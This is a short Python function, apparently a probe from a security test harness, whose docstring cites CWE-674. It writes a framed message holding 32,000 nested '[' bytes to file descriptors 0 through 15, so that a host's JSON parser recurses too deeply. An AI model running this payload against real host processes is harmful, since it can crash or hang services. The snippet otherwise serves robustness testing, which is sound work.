"""Have the host parse JSON of great depth.

See: https://cwe.mitre.org/data/definitions/674.html
Layers: main bare
"""


def attempt():
    words = b"[" * 32000
    for descriptor in range(16):
        try:
            os.write(descriptor, HEADER.pack(MAGIC, 10, 0, 0, len(words), 0) + words)
        except OSError:
            pass
    time.sleep(0.2)
    return 0.0
